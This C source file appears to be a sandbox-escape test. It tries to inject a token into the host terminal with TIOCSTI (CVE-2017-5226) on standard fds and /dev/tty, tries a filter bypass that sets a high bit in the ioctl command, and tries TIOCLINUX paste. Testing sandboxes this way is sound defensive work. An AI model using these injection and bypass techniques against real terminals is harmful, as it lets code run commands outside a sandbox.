/*
 * e10_tty: keystroke injection into the terminal slicectl gave us
 * (CVE-2017-5226): TIOCSTI on fds 0-2 and /dev/tty, TIOCLINUX paste.
 *   e10_tty TOKEN   injects "TOKEN\n"; the driver checks no host-side
 *                   reader ever sees TOKEN.
 */
#include "escape.h"
#include <sys/ioctl.h>
#include <termios.h>

int main(int argc, char **argv)
{
	esc_init();
	const char *tok = argc > 1 ? argv[1] : "VSLICE_INJECTED";
	char line[256];
	snprintf(line, sizeof(line), "%s\n", tok);
	int ttys = 0;
	int fds[4] = { 0, 1, 2, -1 };
	fds[3] = open("/dev/tty", O_RDWR | O_CLOEXEC);
	if (fds[3] < 0)
		info("open /dev/tty: %s", strerror(errno));
	for (int i = 0; i < 4; i++) {
		int fd = fds[i];
		if (fd < 0)
			continue;
		if (!isatty(fd)) {
			info("fd %d is not a terminal", i == 3 ? fds[3] : fd);
			continue;
		}
		ttys++;
		int ok = 0, err = 0;
		for (const char *c = line; *c; c++) {
			if (ioctl(fd, TIOCSTI, c) == 0)
				ok++;
			else
				err = errno;
		}
		const char *nm = i == 3 ? "/dev/tty" : (i == 0 ? "fd 0" : i == 1 ? "fd 1" : "fd 2");
		if (ok)
			escaped("TIOCSTI on %s injected %d characters", nm, ok);
		else
			blocked("TIOCSTI on %s: %s", nm, strerror(err));
		/* The kernel truncates the command to 32 bits; a 64-bit filter
		 * comparing the whole register must not be fooled by high bits. */
		ok = 0;
		err = 0;
		for (const char *c = line; *c; c++) {
			if (syscall(SYS_ioctl, fd, (unsigned long)TIOCSTI | (1UL << 32), c) == 0)
				ok++;
			else
				err = errno;
		}
		if (ok)
			escaped("TIOCSTI|1<<32 on %s injected %d characters (filter bypass)", nm, ok);
		else
			blocked("TIOCSTI|1<<32 on %s: %s", nm, strerror(err));
		char sel[2] = { 3 /* TIOCL_PASTESEL */, 0 };
		expect_fail("TIOCLINUX paste", ioctl(fd, TIOCLINUX, sel));
	}
	if (!ttys)
		info("no terminal on any fd: TIOCSTI cannot be tried");
	printf("TTYS %d\n", ttys);
	return esc_finish();
}
